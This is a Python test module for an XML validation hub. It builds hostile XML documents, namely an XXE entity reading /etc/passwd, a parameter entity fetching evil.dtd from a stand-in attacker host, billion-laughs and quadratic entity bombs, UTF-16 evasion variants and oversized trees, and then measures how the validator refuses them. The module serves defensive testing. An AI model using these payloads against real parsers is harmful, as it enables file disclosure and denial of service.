"""Hostile XML documents, and a child-process runner that measures how the hub refuses them.

    python -m tests.xml.hostile CASE        # prints one JSON line

The runner builds the case's bytes itself (so the parent's memory plays no part), notes its peak
resident set (`ru_maxrss`) and `/proc/self/status` VmHWM, validates once with `hub.xml.validate`,
and prints the elapsed time, both peaks before and after, and the issues. Tests start it through
/bin/sh, which forks it: Linux carries the pre-exec high-water mark into `ru_maxrss`, so a child
spawned directly from a large test process would inherit the test process's peak.
"""

from __future__ import annotations

import json
import resource
import sys
import time
from collections.abc import Callable

from hub.xml import Limits, validate

MB = 1024 * 1024
BIG = 200 * MB

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE BerthingRequest [ <!ENTITY passwd SYSTEM "file:///etc/passwd"> ]>
<BerthingRequest xmlns="urn:portnet:hub:formalities:1"><Remarks>&passwd;</Remarks></BerthingRequest>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE BerthingRequest SYSTEM "http://dtd.example.invalid/berthing.dtd">
<BerthingRequest xmlns="urn:portnet:hub:formalities:1"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [ <!ENTITY % remote SYSTEM "http://attacker.example.invalid/evil.dtd"> %remote; ]>
<r/>
"""


def billion_laughs(levels: int = 10, fan_out: int = 10) -> bytes:
    """The classic entity bomb: `fan_out ** levels` copies of "lol" if anything expanded it."""
    lines = ['<!ENTITY lol0 "lol">']
    for n in range(1, levels):
        lines.append(f'<!ENTITY lol{n} "' + f"&lol{n - 1};" * fan_out + '">')
    doctype = '<!DOCTYPE lolz [\n' + "\n".join(lines) + "\n]>\n"
    return ('<?xml version="1.0"?>\n' + doctype + f"<lolz>&lol{levels - 1};</lolz>\n").encode("ascii")


def quadratic_blowup(size: int = 100_000, refs: int = 100_000) -> bytes:
    """One large entity referenced many times: quadratic rather than exponential."""
    return (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{"x" * size}">]><r>' + "&a;" * refs + "</r>"
            ).encode("ascii")


def utf16(doc: bytes) -> bytes:
    """The same document in UTF-16 with a BOM, which a byte-level prolog scan cannot read."""
    return doc.decode("ascii").replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
                                       ).encode("utf-16")


def nested(total: int = BIG) -> bytes:
    """`total` bytes of ever deeper elements: <a><a><a>... and the matching end tags."""
    depth = total // 7
    return b"<a>" * depth + b"</a>" * depth


def wide(total: int = BIG) -> bytes:
    """`total` bytes of empty sibling elements: few bytes each, over a hundred bytes of tree each."""
    return b"<r>" + b"<a/>" * ((total - 7) // 4) + b"</r>"


def error_storm(lines: int = 120_000) -> bytes:
    """A berthing request with `lines` invalid cargo lines, two schema errors each, all siblings:
    about 11 MB and 970,000 nodes, just under the default node limit."""
    from pathlib import Path

    sample = Path(__file__).resolve().parent.parent.parent / "samples" / "xml" / "berthing-request.xml"
    bad = b"<CargoLine><Operation>LOAD</Operation><CargoType>X</CargoType><Units>-1</Units></CargoLine>"
    return sample.read_bytes().replace(b"<CargoSummary>", b"<CargoSummary>" + bad * lines)


# name -> (bytes, limits)
CASES: dict[str, Callable[[], tuple[bytes, Limits]]] = {
    "xxe": lambda: (XXE, Limits()),
    "external-dtd": lambda: (EXTERNAL_DTD, Limits()),
    "parameter-entity": lambda: (PARAMETER_ENTITY, Limits()),
    "billion-laughs": lambda: (billion_laughs(), Limits()),
    "quadratic-blowup": lambda: (quadratic_blowup(), Limits()),
    "billion-laughs-utf16": lambda: (utf16(billion_laughs()), Limits()),
    "xxe-utf16": lambda: (utf16(XXE), Limits()),
    # 200 MB under the default limits: refused by size before anything else.
    "nested-200mb": lambda: (nested(), Limits()),
    # The same with size and node limits lifted: libxml2 stops at its depth limit after 771 bytes.
    "nested-200mb-unlimited": lambda: (nested(), Limits(max_bytes=BIG + MB, max_nodes=10**9)),
    # 200 MB of siblings with the size limit lifted: refused by the node count, before parsing.
    "wide-200mb": lambda: (wide(), Limits(max_bytes=BIG + MB)),
    # Valid XML, known schema, 240,000 schema errors among 120,000 siblings.
    "error-storm": lambda: (error_storm(), Limits()),
}


def _hwm_kb() -> int | None:
    try:
        with open("/proc/self/status", encoding="ascii") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def main(case: str) -> None:
    data, limits = CASES[case]()
    before, hwm_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, _hwm_kb()
    t0 = time.perf_counter()
    report = validate(data, limits=limits)
    elapsed = time.perf_counter() - t0
    after, hwm_after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, _hwm_kb()
    print(json.dumps({
        "case": case, "bytes": len(data), "seconds": elapsed,
        "maxrss_kb_before": before, "maxrss_kb_after": after,
        "hwm_kb_before": hwm_before, "hwm_kb_after": hwm_after,
        "accepted": report.accepted,
        "issues": [[i.code.ident, i.rule, i.line, i.message] for i in report.all_issues()],
    }))


if __name__ == "__main__":
    main(sys.argv[1])
